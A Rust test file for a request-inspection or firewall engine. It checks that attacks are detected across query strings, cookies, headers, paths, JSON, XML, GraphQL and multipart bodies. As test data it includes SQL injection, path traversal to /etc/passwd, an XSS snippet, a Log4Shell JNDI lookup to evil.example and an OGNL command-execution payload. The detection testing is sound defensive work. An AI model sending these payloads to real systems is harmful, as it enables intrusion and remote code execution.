use std::sync::Mutex;

use super::*;
use crate::detect::{Budget, Class, Detectors, Settings};

fn look(look: impl FnOnce(&mut Inspection<'_>)) -> Option<Hit> {
    let detectors = Detectors::new(Settings::default());
    let mut inspection = Inspection::new(&detectors, Settings::THRESHOLD, Budget::default());
    look(&mut inspection);
    assert_eq!(inspection.exhausted_by(), None);
    inspection.into_hit()
}

fn body(content_type: &str, body: &[u8]) -> Option<Hit> {
    look(|inspection| inspection.body(content_type.as_bytes(), body).expect("readable"))
}

/// Where an attack was found.
fn spot(hit: Option<Hit>) -> Option<(Class, &'static str, String)> {
    hit.map(|hit| (hit.class, hit.part, hit.name))
}

const SQL: &str = "1' or 1=1-- -";

#[test]
fn an_attack_is_found_in_every_part_of_the_head() {
    let found = |hit| spot(hit).expect("an attack");
    let query = look(|it| it.query(b"page=2&id=1%27+or+1%3D1--+-"));
    assert_eq!(found(query), (Class::Sqli, "query", "id".into()));
    let cookie = look(|it| it.header("cookie", b"a=b; id=1'%20or%201=1--%20-"));
    assert_eq!(found(cookie), (Class::Sqli, "cookie", "id".into()));
    let header = look(|it| it.header("x-id", SQL.as_bytes()));
    assert_eq!(found(header), (Class::Sqli, "header", "x-id".into()));
    let path = look(|it| it.path("/users/1'%20or%201=1--%20-"));
    assert_eq!(found(path), (Class::Sqli, "path", String::new()));
    let json = look(|it| it.query(br#"filter={"a":{"id":"1' or 1=1-- -"}}"#));
    assert_eq!(found(json).1, "query");
}

#[test]
fn an_attack_is_found_in_every_reading_of_a_body() {
    let json = format!(r#"{{"a":[1,{{"id":"{SQL}"}}]}}"#);
    let wide: Vec<u8> = json.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let marked = [&[0xef, 0xbb, 0xbf], json.as_bytes()].concat();
    let at = |name: &str| Some((Class::Sqli, "json", name.to_owned()));
    for kind in
        ["application/json", "text/plain", "", "application/x-www-form-urlencoded", "image/png"]
    {
        assert_eq!(spot(body(kind, json.as_bytes())), at("a.1.id"), "{kind}");
        assert_eq!(spot(body(kind, &wide)), at("a.1.id"), "{kind}");
        assert_eq!(spot(body(kind, &marked)), at("a.1.id"), "{kind}");
    }
    for (kind, text, part, name) in [
        ("application/x-www-form-urlencoded", "a=b&id=1'+or+1=1--+-", "form", "id"),
        ("text/plain", "a=b&id=1'+or+1=1--+-", "form", "id"),
        ("text/plain", SQL, "body", ""),
        ("application/xml", "<a><b>1' or 1=1-- -</b></a>", "xml", ""),
        ("text/plain", "<a b=\"1' or 1=1-- -\"/>", "xml", ""),
        ("text/xml", "<a><![CDATA[1' or 1=1-- -]]></a>", "xml", ""),
        ("application/graphql", "{ user(id: \"1' or 1=1-- -\") { name } }", "graphql", ""),
        (
            "application/json",
            r#"{"query":"{ user(id: \"1' or 1=1-- -\") { name } }"}"#,
            "graphql",
            "query",
        ),
    ] {
        let expected = Some((Class::Sqli, part, name.to_owned()));
        assert_eq!(spot(body(kind, text.as_bytes())), expected, "{kind} {text}");
    }
}

#[test]
fn forms_of_several_parts_are_read_strictly() {
    let form = |name: &str, value: &str| {
        format!("--B\r\nContent-Disposition: form-data; {name}\r\n\r\n{value}\r\n--B--\r\n")
    };
    let kind = "multipart/form-data; boundary=B";
    let field = form("name=\"id\"", SQL);
    assert_eq!(spot(body(kind, field.as_bytes())), Some((Class::Sqli, "form", "id".into())));
    let file = form("name=\"f\"; filename=\"../../etc/passwd\"", "x");
    let found = spot(body(kind, file.as_bytes())).expect("an attack");
    assert_eq!((found.0, found.1), (Class::PathTraversal, "file-name"));
    let contents = form("name=\"f\"; filename=\"notes.txt\"", SQL);
    assert_eq!(body(kind, contents.as_bytes()), None);
    assert_eq!(body(kind, b"--B--\r\n"), None, "a form without fields");
    let both = form("name=\"f\"; filename=\"a.txt\"; filename*=UTF-8''a.txt", "x");
    assert_eq!(body(kind, both.as_bytes()), None);
    let read = look(|it| {
        assert!(
            it.body(kind.as_bytes(), b"--B\r\nContent-Disposition: form-data\r\n\r\n").is_err()
        );
    });
    assert_eq!(read, None);
}

#[test]
fn what_is_exempt_is_left_alone_there_and_nowhere_else() {
    #[derive(Debug)]
    struct Note;
    impl Exempt for Note {
        fn exempts(&self, class: Class, spot: &Spot<'_>) -> bool {
            class == Class::Sqli && spot.name == b"note"
        }
    }
    let detectors = Detectors::new(Settings::default());
    let look = |query: &[u8]| {
        let inspection = Inspection::new(&detectors, Settings::THRESHOLD, Budget::default());
        let mut inspection = inspection.exempting(&Note);
        inspection.query(query);
        spot(inspection.into_hit()).map(|found| found.2)
    };
    assert_eq!(look(b"note=1'+or+1=1--+-"), None);
    assert_eq!(look(b"note=1'+or+1=1--+-&id=1'+or+1=1--+-").as_deref(), Some("id"));
    assert_eq!(look(b"note=<script>alert(1)</script>").as_deref(), Some("note"));
}

#[test]
fn too_much_to_look_at_names_what_it_was() {
    let detectors = Detectors::new(Settings::default());
    let mut inspection = Inspection::new(&detectors, Settings::THRESHOLD, Budget::default());
    inspection.query("a=b&".repeat(20_000).as_bytes());
    assert_eq!(inspection.exhausted_by(), Some("parameters"));
}

#[test]
fn ordinary_bodies_pass() {
    for (kind, text) in [
        ("application/x-www-form-urlencoded", r#"{"title":"O'Brien & sons","n":[1,2]}"#),
        ("text/plain", r#"{"event":"pageview","url":"https://a.example/?q=1&b=2"}"#),
        ("text/plain;charset=UTF-8", "please select an option from the list"),
        ("application/x-ndjson", "{\"a\":\"b\"}\n{\"a\":\"c\"}\n"),
        ("application/json", "\"text\""),
        ("application/json", "12"),
        ("application/xml", "<note from=\"O'Brien\">It's 5 > 3 &amp; \"fine\"</note>"),
        ("application/graphql", "query { user(id: \"O'Brien\") { name } }"),
    ] {
        assert_eq!(body(kind, text.as_bytes()), None, "{text}");
    }
}

#[test]
fn a_charset_that_readers_pass_over_hides_nothing() {
    let form = "q=1%27+or+1%3D1--+-";
    let kind = "application/x-www-form-urlencoded";
    let found = Some((Class::Sqli, "form", "q".to_owned()));
    for (charset, before) in
        [("utf-16", &b""[..]), ("utf-32", b""), ("utf-8", b"a\0b\0&"), ("utf-8", b"\xff\xfe&")]
    {
        let text = [before, form.as_bytes()].concat();
        assert_eq!(spot(body(&format!("{kind}; charset={charset}"), &text)), found, "{text:?}");
    }
    let json = br#"{"q":"1' or 1=1-- -"}"#;
    let found = Some((Class::Sqli, "json", "q".to_owned()));
    assert_eq!(spot(body("application/json; charset=utf-16", json)), found);
    let filled = format!(r#"{{"a":"{}","q":"{SQL}"}}"#, "\x7f".repeat(2_000));
    assert_eq!(spot(body("text/plain", filled.as_bytes())), found);
}

#[test]
fn what_some_readers_take_for_a_field_is_looked_at() {
    let found = Some((Class::Sqli, "form", "id".to_owned()));
    let part = |name: &str, value: &str| {
        format!("--B\r\nContent-Disposition: form-data; {name}\r\n\r\n{value}\r\n")
    };
    for name in ["name=\"id\"; filename=\"\"", "name=\"id\"; filename*=UTF-8''notes.txt"] {
        let form = format!("{}--B--\r\n", part(name, SQL));
        assert_eq!(spot(body("multipart/form-data; boundary=B", form.as_bytes())), found, "{name}");
    }
    let noise = part("name=\"f\"; filename=\"x\"", &"\0\x01".repeat(1_000));
    let form = format!("{noise}{}--B--\r\n", part("name=\"id\"", SQL));
    for kind in ["multipart/form-data,", "multipart/form-data x", "multipart/mixed"] {
        let kind = format!("{kind}; boundary=B");
        assert_eq!(spot(body(&kind, form.as_bytes())), found, "{kind}");
    }
    let picture = part("name=\"f\"; filename*=UTF-8''a.png", &"\0\x01' or 1=1--".repeat(200));
    let form = format!("{picture}{}--B--\r\n", part("name=\"none\"; filename=\"\"", ""));
    assert_eq!(body("multipart/form-data; boundary=B", form.as_bytes()), None);
}

#[test]
fn separators_without_cookies_use_up_nothing_and_too_many_cookies_are_too_much() {
    let cookies = format!("{}id=1'%20or%201=1--%20-", "; ".repeat(20_000));
    let found = look(|it| it.header("cookie", cookies.as_bytes()));
    assert_eq!(spot(found), Some((Class::Sqli, "cookie", "id".into())));
    let detectors = Detectors::new(Settings::default());
    let mut inspection = Inspection::new(&detectors, Settings::THRESHOLD, Budget::default());
    inspection.header("cookie", "a;".repeat(20_000).as_bytes());
    assert_eq!(inspection.exhausted_by(), Some("cookies"));
}

#[test]
fn a_declared_type_is_looked_at_when_it_is_none() {
    for attack in
        ["${jndi:ldap://evil.example/a}", "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}"]
    {
        let found = spot(look(|it| it.header("content-type", attack.as_bytes())));
        assert_eq!(
            found.map(|(_, part, name)| (part, name)),
            Some(("header", "content-type".into()))
        );
    }
    for ordinary in [
        "text/html; charset=utf-8",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "multipart/related; type=\"application/xop+xml\"; start=\"<root@example>\"; boundary=\"a'()+_,-./:=? b\"",
        "application/soap+xml; action=\"urn:a/b\"",
    ] {
        assert_eq!(look(|it| it.header("content-type", ordinary.as_bytes())), None, "{ordinary}");
    }
}

#[test]
fn what_is_known_is_asked_for_by_name_and_never_by_a_path() {
    #[derive(Debug, Default)]
    struct Asked(Mutex<Vec<String>>);
    impl Known for Asked {
        fn is_harmless(&self, _: &str, name: &[u8]) -> bool {
            self.0.lock().unwrap().push(String::from_utf8_lossy(name).into_owned());
            false
        }
    }
    let (detectors, asked) = (Detectors::new(Settings::default()), Asked::default());
    let inspection = Inspection::new(&detectors, Settings::THRESHOLD, Budget::default());
    let mut inspection = inspection.knowing(&asked);
    inspection.body(b"application/json", br#"{"a":"it's","b":{"c":["O'Brien"]}}"#).unwrap();
    assert_eq!(*asked.0.lock().unwrap(), ["a", "a", "b"]);
}
